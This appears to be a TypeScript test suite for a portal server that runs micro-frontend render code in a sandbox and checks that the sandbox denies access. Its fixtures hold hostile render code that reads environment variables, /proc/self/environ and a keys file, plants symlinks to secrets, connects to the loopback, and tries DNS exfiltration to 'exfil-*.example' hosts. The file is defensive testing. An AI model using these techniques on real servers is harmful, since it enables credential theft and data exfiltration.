// The first paint of a remote's public page: the server composes the remote's own static
// render (its release's ssr/render.cjs) into the host's page, runs that code in a sandboxed process
// that reaches nothing of the server's (environment, files, keys, network, name resolution) on the
// portal's copy of the release (never the team's folder), serves the placeholder when it fails or
// hangs or the namespace layer it needs is missing, follows a switch of release, and never serves
// ssr/ as files.
import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyBaseLogger } from 'fastify';
import { loadSettings } from '../src/config/settings';
import { createRemoteRenderer } from '../src/hosting/remote-render';
import { harness, type Harness } from './helpers';

let h: Harness;
let root: string;
const MASTER_KEY = 'f00dfeed'.repeat(8);

// the host's server render, reduced to what the server relies on: it asks `renderRemote` for the
// area of the page and puts the answer in the area, else the loading placeholder
const HOST_RENDER = `
exports.render = async (url, config, renderRemote) => {
  const { pathname } = new URL(url);
  const module = pathname === '/contact-us' ? 'support/ContactPage' : pathname === '/ind' ? 'account/AccountPage' : null;
  const html = module && renderRemote ? await renderRemote(module, {}) : null;
  return {
    status: 200,
    title: 'Page',
    html: html === null ? '<div role="status">Loading</div>' : '<div data-remote-static="' + module + '">' + html + '</div>',
  };
};`;

// a remote's static render: what it was asked and what it can see of the server's process
const remoteRender = (label: string) => `
let calls = 0;
exports.render = ({ module, url, config }) => {
  calls += 1;
  const kase = new URL(url).searchParams.get('case');
  if (kase === 'throw') throw new Error('the remote could not render');
  if (kase === 'hang') for (;;) {}
  if (module !== 'support/ContactPage') return null;
  return '<h1>Contact Us</h1><p data-from>${label}</p><p data-product>' + config.program.productName +
    '</p><p data-env>' + JSON.stringify(Object.keys(process.env)) + '</p><p data-calls>' + calls + '</p>';
};`;

function writeSsr(dir: string, label: string) {
  mkdirSync(join(dir, 'ssr'), { recursive: true });
  writeFileSync(join(dir, 'ssr', 'render.cjs'), remoteRender(label));
  writeFileSync(join(dir, 'ssr', 'render.css'), `.support_${label.replace(/\W/g, '')}{color:#123456}`);
}

/** A release folder of the support remote, as `pnpm release` writes it, with its ssr/. */
function supportRelease(version: string, render?: string): string {
  const dir = join(root, `support-${version}`);
  mkdirSync(dir, { recursive: true });
  const exposes = ['./ContactPage', './Agreements', './parcel'];
  const manifest = {
    id: 'support',
    name: 'support',
    metaData: {
      name: 'support',
      publicPath: 'auto',
      portal: {
        release: { version, commit: 'b2c3d4e', builtAt: '2026-11-20T10:00:00.000Z' },
        // what the host of this apps root has (its package.json below: no dependencies)
        contracts: { version: '0.0.0', major: 0 },
        singletons: [],
        exposes,
      },
    },
    shared: [],
    remotes: [],
    exposes: exposes.map((path) => ({ id: `support:${path.slice(2)}`, name: path.slice(2), path })),
  };
  writeFileSync(join(dir, 'mf-manifest.json'), JSON.stringify(manifest));
  writeFileSync(join(dir, 'remoteEntry.js'), `/* support ${version} */`);
  writeSsr(dir, `release ${version}`);
  if (render) writeFileSync(join(dir, 'ssr', 'render.cjs'), render);
  return dir;
}

// a hostile release's static render: it reads the environment, /proc/self/environ and the keys
// file, opens a TCP connection and fetches from the loopback, signals the server, and shows what it got
const hostileRender = (keysFile: string, port: number) => `
const fs = require('node:fs');
const net = require('node:net');
const read = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch (e) { return 'denied ' + e.code; } };
const connect = () => new Promise((resolve) => {
  setTimeout(() => resolve('no answer'), 500);
  try {
    const socket = net.connect(${port}, '127.0.0.1', () => { socket.end('from the release'); resolve('connected'); });
    socket.on('error', (e) => resolve('refused ' + e.code));
  } catch (e) { resolve('threw ' + e.code); }
});
const fetched = () => fetch('http://127.0.0.1:${port}/').then(() => 'fetched', (e) => 'not fetched');
exports.render = async ({ module }) => {
  if (module !== 'support/ContactPage') return null;
  let signal = 'signalled';
  try { process.kill(process.ppid, 0); } catch (e) { signal = 'denied'; }
  const got = { env: process.env, environ: read('/proc/self/environ'), keys: read(${JSON.stringify(keysFile)}),
    socket: await connect(), fetch: await fetched(), signal };
  return '<h1>Contact Us</h1><pre data-got>' + JSON.stringify(got).replace(/</g, '&lt;') + '</pre>';
};`;

const page = (url: string) => h.app.inject({ method: 'GET', url });
const warnings = () => h.logs.filter((l) => l.includes('static render of a remote failed'));

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'portal-ssr-'));
  const host = join(root, 'host');
  mkdirSync(join(host, 'dist'), { recursive: true });
  mkdirSync(join(host, 'dist-ssr'), { recursive: true });
  writeFileSync(
    join(host, 'dist', 'index.html'),
    '<!doctype html><html><head><title>Portal</title></head><body><div id="root"></div></body></html>',
  );
  writeFileSync(join(host, 'dist-ssr', 'render.cjs'), HOST_RENDER);
  writeFileSync(join(host, 'dist-ssr', 'render.css'), '.host_a{margin:0}');
  // what a publish checks a release against (releases/compat.ts)
  writeFileSync(join(host, 'package.json'), '{"dependencies":{}}');
  const support = join(root, 'mfe-support', 'dist');
  mkdirSync(support, { recursive: true });
  writeFileSync(join(support, 'remoteEntry.js'), 'var portal_support;');
  writeSsr(support, 'checkout build');
  mkdirSync(join(root, 'mfe-account', 'dist'), { recursive: true });
  writeFileSync(join(root, 'mfe-account', 'dist', 'remoteEntry.js'), 'var portal_account;');
  // a secret in the server's environment, which the remote's code must not see
  process.env.PORTAL_TEST_SECRET = 'not-for-remotes';
  process.env.MASTER_KEY = MASTER_KEY;
  h = await harness({ settings: { appsRoot: root } });
});
afterAll(async () => {
  delete process.env.PORTAL_TEST_SECRET;
  delete process.env.MASTER_KEY;
  await h.close();
  rmSync(root, { recursive: true, force: true });
});

describe("a remote's static render in the host's page", () => {
  test('/contact-us carries the support remote’s HTML, with the programme’s values and its CSS in the head', async () => {
    const res = await page('/contact-us');
    expect(res.statusCode).toBe(200);
    expect(res.body).toMatch(
      /<div id="root" data-ssr><div data-remote-static="support\/ContactPage"><h1>Contact Us<\/h1><p data-from>checkout build<\/p>/,
    );
    expect(res.body).toContain(`<p data-product>${h.app.ctx.program.productName}</p>`);
    expect(res.body).toContain('<style data-portal-ssr-remote>.support_checkoutbuild{color:#123456}</style>');
    expect(res.body).not.toContain('role="status"');
  });

  test("the remote's code runs without the server's environment (no database URL, no secret)", async () => {
    expect(process.env.PORTAL_TEST_SECRET).toBe('not-for-remotes');
    const res = await page('/contact-us');
    expect(res.body).toContain('<p data-env>[]</p>');
    expect(res.body).not.toContain('not-for-remotes');
  });

  test('a page is rendered once per path and release, then served from memory', async () => {
    const first = await page('/contact-us?a=1');
    const second = await page('/contact-us?a=1');
    expect(first.body).toBe(second.body);
  });

  test('a remote without a static render of the module (the account page) leaves the placeholder', async () => {
    const res = await page('/ind');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(res.body).not.toContain('data-portal-ssr-remote');
  });

  test('a static render that throws: the placeholder, a warning, and the next request tries again', async () => {
    const before = warnings().length;
    const res = await page('/contact-us?case=throw');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(warnings().length).toBe(before + 1);
    expect(warnings().at(-1)).toContain('the remote could not render');
    await page('/contact-us?case=throw');
    expect(warnings().length).toBe(before + 2);
  });

  test('a static render that never ends: the page is served with the placeholder in time, and the next one renders', async () => {
    const res = await page('/contact-us?case=hang');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div role="status">Loading</div>');
    expect(warnings().at(-1)).toMatch(/no answer in \d+ ms/);
    const next = await page('/contact-us?after=hang');
    expect(next.body).toContain('<p data-from>checkout build</p>');
  });

  test('ssr/ is never served as files, from the checkout build or a release folder', async () => {
    expect((await page('/remotes/mfe-support/remoteEntry.js')).statusCode).toBe(200);
    expect((await page('/remotes/mfe-support/ssr/render.cjs')).statusCode).toBe(404);
    expect((await page('/remotes/mfe-support/ssr/render.css')).statusCode).toBe(404);
  });

  test('a switch of release reaches the next page: its own static render, and its ssr/ is not served either', async () => {
    const published = await h.admin('POST', '/remotes/publish', {
      remote: 'support',
      source: supportRelease('2.0.0+b2c3d4e'),
    });
    expect(published.statusCode).toBe(200);
    const switched = await h.admin('POST', '/remotes/switch', {
      remote: 'support',
      version: '2.0.0+b2c3d4e',
    });
    expect(switched.statusCode).toBe(200);
    const res = await page('/contact-us');
    expect(res.body).toContain('<p data-from>release 2.0.0+b2c3d4e</p>');
    expect(res.body).toContain('.support_release200b2c3d4e{color:#123456}');
    const base = '/remotes/releases/support/2.0.0%2Bb2c3d4e';
    expect((await page(`${base}/remoteEntry.js`)).statusCode).toBe(200);
    expect((await page(`${base}/ssr/render.cjs`)).statusCode).toBe(404);
    expect((await page(`${base}/ssr/render.css`)).statusCode).toBe(404);
    await h.admin('POST', '/remotes/rollback', { remote: 'support' });
    expect((await page('/contact-us')).body).toContain('<p data-from>checkout build</p>');
  });
});

describe('a hostile release: its static render reaches nothing of the server, and the page is still served', () => {
  let listener: Server;
  let port = 0;
  const connections: Socket[] = [];
  beforeAll(async () => {
    listener = createServer((socket) => {
      connections.push(socket);
      socket.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    port = (listener.address() as { port: number }).port;
  });
  afterAll(async () => {
    await h.admin('POST', '/remotes/switch', { remote: 'support', version: 'checkout' });
    await new Promise((r) => listener.close(r));
  });

  const publishAndSwitch = async (dir: string, version: string) => {
    expect((await h.admin('POST', '/remotes/publish', { remote: 'support', source: dir })).statusCode).toBe(
      200,
    );
    expect((await h.admin('POST', '/remotes/switch', { remote: 'support', version })).statusCode).toBe(200);
  };

  test('it reads the environment, /proc/self/environ and the keys file, and connects to the loopback: it gets none of them', async () => {
    const keysFile = join(h.dataDir, 'dev-keys.json');
    const keys = JSON.stringify({ masterKey: 'c0ffee00'.repeat(8), note: 'development only' });
    writeFileSync(keysFile, keys, { mode: 0o600 });
    await publishAndSwitch(supportRelease('6.6.6+hostile', hostileRender(keysFile, port)), '6.6.6+hostile');

    const res = await page('/contact-us?hostile=1');
    expect(res.statusCode).toBe(200);
    // the page is served with the release's render, which shows what it got
    const got = JSON.parse(
      /<pre data-got>(.*?)<\/pre>/s
        .exec(res.body)![1]!
        .replace(/&quot;/g, '"')
        .replace(/&lt;/g, '<'),
    ) as Record<string, unknown>;
    expect(got).toEqual({
      env: {},
      environ: 'denied ERR_ACCESS_DENIED',
      keys: 'denied ERR_ACCESS_DENIED',
      socket: expect.not.stringMatching(/^connected$/),
      fetch: 'not fetched',
      signal: 'denied',
    });
    expect(connections).toHaveLength(0);
    // nothing of the server's process: the master key, the keys file, any value of its environment
    expect(res.body).not.toContain(MASTER_KEY);
    expect(res.body).not.toContain('c0ffee00');
    expect(res.body).not.toContain('not-for-remotes');
    const environ = readFileSync('/proc/self/environ', 'utf8')
      .split('\0')
      .map((entry) => entry.slice(entry.indexOf('=') + 1))
      .filter((value) => value.length >= 12);
    for (const value of environ) expect(res.body).not.toContain(value);
  });

  // reads its own folder's keys.json and message.txt at each render: whatever the folder holds then
  const plantedRender = `
const fs = require('node:fs');
const path = require('node:path');
const read = (file) => { try { return fs.readFileSync(path.join(__dirname, file), 'utf8'); } catch (e) { return 'denied ' + e.code; } };
exports.render = ({ module }) => module !== 'support/ContactPage' ? null :
  '<h1>Contact Us</h1><p data-message>' + read('message.txt') + '</p><p data-keys>' + read('keys.json').replace(/</g, '&lt;') + '</p>';`;

  test.each([
    ['a symbolic link', 'before', (target: string, link: string) => symlinkSync(target, link)],
    ['a hard link', 'before', (target: string, link: string) => linkSync(target, link)],
    ['a symbolic link', 'after', (target: string, link: string) => symlinkSync(target, link)],
    ['a hard link', 'after', (target: string, link: string) => linkSync(target, link)],
  ])(
    'the team’s ssr/ gains %s to the keys file and a changed file after publish, %s a first render: the page renders the copy made at publish',
    async (kind, when, plant) => {
      const keysFile = join(h.dataDir, 'dev-keys.json');
      writeFileSync(keysFile, JSON.stringify({ masterKey: 'c0ffee00'.repeat(8) }), { mode: 0o600 });
      const version = `6.6.7+${kind.length}${when}`;
      const dir = supportRelease(version, plantedRender);
      writeFileSync(join(dir, 'ssr', 'message.txt'), 'as published');
      await publishAndSwitch(dir, version);
      if (when === 'after') {
        const first = await page(`/contact-us?planted=${version}-first`);
        expect(first.body).toContain('<p data-message>as published</p>');
      }
      plant(keysFile, join(dir, 'ssr', 'keys.json'));
      writeFileSync(join(dir, 'ssr', 'message.txt'), 'changed after publish');
      const res = await page(`/contact-us?planted=${version}`);
      expect(res.statusCode).toBe(200);
      expect(res.body).toContain('<p data-message>as published</p>');
      expect(res.body).toContain('<p data-keys>denied ENOENT</p>');
      expect(res.body).not.toContain('c0ffee00');
      expect(res.body).not.toContain('changed after publish');
    },
  );
});

describe('a hostile release without the namespace layer: the sealing alone keeps its DNS queries in', () => {
  let degraded: Harness;
  let udp: UdpSocket;
  let port = 0;
  const queries: Buffer[] = [];
  beforeAll(async () => {
    udp = createSocket('udp4', (message) => queries.push(message));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    port = udp.address().port;
    degraded = await harness({ settings: { appsRoot: root, renderSandbox: 'degraded' } });
  });
  afterAll(async () => {
    await degraded.close();
    await new Promise<void>((r) => udp.close(() => r()));
  });

  // every way a render could send a name out: c-ares Resolvers (callback and promises, pointed at
  // the test's listener), the default resolver, lookup (getaddrinfo) and a connection by name
  const dnsRender = (server: string) => `
const dns = require('node:dns');
const net = require('node:net');
const server = ${JSON.stringify(server)};
const attempt = async (send) => {
  try { await send(); return 'answered'; } catch (e) { return 'refused ' + e.code; }
};
exports.render = async ({ module }) => {
  if (module !== 'support/ContactPage') return null;
  const got = {
    resolver: await attempt(() => new Promise((resolve, reject) => {
      const r = new dns.Resolver({ timeout: 200, tries: 1 });
      r.setServers([server]);
      r.resolveTxt('exfil-resolver.example', (e) => (e ? reject(e) : resolve()));
    })),
    promises: await attempt(async () => {
      const r = new (require('node:dns/promises').Resolver)({ timeout: 200, tries: 1 });
      r.setServers([server]);
      await r.resolveTxt('exfil-promises.example');
    }),
    channel: await attempt(() => new Promise((resolve, reject) => {
      try { dns.setServers([server]); } catch {}
      dns.resolve4('exfil-default.example', (e) => (e ? reject(e) : resolve()));
    })),
    lookup: await attempt(() => dns.promises.lookup('exfil-lookup.example')),
    connect: await attempt(() => new Promise((resolve, reject) => {
      const s = net.connect(80, 'exfil-connect.example', resolve);
      s.on('error', reject);
    })),
  };
  return '<h1>Contact Us</h1><pre data-got>' + JSON.stringify(got) + '</pre>';
};`;

  test('new dns.Resolver(); setServers([the test’s listener]); resolveTxt(…): no query arrives, every way to resolve a name is refused', async () => {
    const version = '6.6.8+dns';
    const dir = supportRelease(version, dnsRender(`127.0.0.1:${port}`));
    expect(
      (await degraded.admin('POST', '/remotes/publish', { remote: 'support', source: dir })).statusCode,
    ).toBe(200);
    expect((await degraded.admin('POST', '/remotes/switch', { remote: 'support', version })).statusCode).toBe(
      200,
    );
    const res = await degraded.app.inject({ method: 'GET', url: '/contact-us?dns=1' });
    expect(res.statusCode).toBe(200);
    const shown = /<pre data-got>(.*?)<\/pre>/s.exec(res.body)?.[1];
    expect(shown).toBeDefined();
    const got = JSON.parse(shown!.replace(/&quot;/g, '"')) as Record<string, string>;
    for (const [way, outcome] of Object.entries(got))
      expect([way, outcome]).toEqual([way, 'refused ERR_ACCESS_DENIED']);
    // a query sent late still arrives within this wait
    await new Promise((r) => setTimeout(r, 300));
    expect(queries.map((q) => q.toString('latin1'))).toEqual([]);
    expect(degraded.logs.join('')).toContain('without namespaces');
  });
});

describe('the namespace layer (RENDER_SANDBOX)', () => {
  const logged: string[] = [];
  const log = {
    info: (_o: object, message: string) => logged.push(`info ${message}`),
    warn: (_o: object, message: string) => logged.push(`warn ${message}`),
    error: (_o: object, message: string) => logged.push(`error ${message}`),
  } as unknown as FastifyBaseLogger;
  const renderer = (sandbox: 'namespaces' | 'auto') =>
    createRemoteRenderer({
      ssrDirOf: () => join(root, 'mfe-support', 'dist', 'ssr'),
      // what the renders here read of it
      config: { program: h.app.ctx.program } as never,
      log,
      sandbox,
      namespaces: () => false,
    });

  test('required and missing (production’s default): the render process is not started, the area keeps its placeholder, the refusal logged', async () => {
    logged.length = 0;
    const required = renderer('namespaces');
    try {
      const answer = await required.render('support/ContactPage', {}, 'http://portal.test/contact-us');
      expect(answer).toEqual({ failed: false });
      expect(logged).toEqual([
        expect.stringMatching(/^error static renders of remotes not run: this machine gives no namespaces/),
      ]);
    } finally {
      await required.close();
    }
    const allowed = renderer('auto');
    try {
      const answer = await allowed.render('support/ContactPage', {}, 'http://portal.test/contact-us');
      expect(answer).toMatchObject({ html: expect.stringContaining('checkout build') });
    } finally {
      await allowed.close();
    }
  });

  test('production requires the namespace layer unless RENDER_SANDBOX says otherwise; development runs without it where there is none', () => {
    expect(loadSettings({ PORTAL_MODE: 'production' }).renderSandbox).toBe('namespaces');
    expect(loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'degraded' }).renderSandbox).toBe(
      'degraded',
    );
    expect(loadSettings({ PORTAL_MODE: 'development' }).renderSandbox).toBe('auto');
    expect(() => loadSettings({ PORTAL_MODE: 'production', RENDER_SANDBOX: 'off' })).toThrow(
      'RENDER_SANDBOX must be namespaces, auto or degraded',
    );
  });
});
